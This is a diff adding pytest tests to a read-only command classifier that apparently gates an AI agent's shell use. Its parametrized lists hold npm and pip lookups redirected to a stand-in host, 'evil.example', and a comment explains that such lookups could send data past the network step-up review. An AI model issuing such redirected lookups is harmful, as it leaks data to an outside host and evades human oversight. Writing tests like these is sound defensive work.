@@ -426,3 +426,34 @@ def test_the_baseline_allows_what_the_table_proves_read_only(project: Path, comm
 )
 def test_help_of_an_unknown_program_is_only_the_long_forms(argv: tuple[str, ...]) -> None:
     assert not is_read_only(argv)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "npm view x --registry=http://evil.example/",
+        "npm --registry http://evil.example/ view x",
+        "npm view x --@acme:registry=http://evil.example/",
+        "npm view x --userconfig=/tmp/npmrc",
+        "npm view github:evil/x",
+        "npm view evil/x",
+        "npm view git+https://evil.example/x.git",
+        "npm view https://evil.example/x.tgz",
+        "npm search x --https-proxy=http://evil.example:8080",
+        "pip index versions x --index-url http://evil.example/simple",
+        "pip index versions x -i http://evil.example/simple",
+        "pip3 index versions x --extra-index-url=http://evil.example/",
+        "pip index versions x -f http://evil.example/",
+    ],
+)
+def test_a_registry_lookup_sent_elsewhere_is_not_read_only(command: str) -> None:
+    # the package tools' read-only lookups still ask a registry: pointed at a host of the agent's
+    # choosing, the lookup (and its arguments) go there, past the network step-up (dashboard review)
+    assert not is_read_only(tuple(command.split()))
+
+
+@pytest.mark.parametrize(
+    "command", ["npm view left-pad", "npm view @acme/pkg version", "npm ls", "pip show requests"]
+)
+def test_registry_lookups_of_the_default_registry_stay_read_only(command: str) -> None:
+    assert is_read_only(tuple(command.split()))
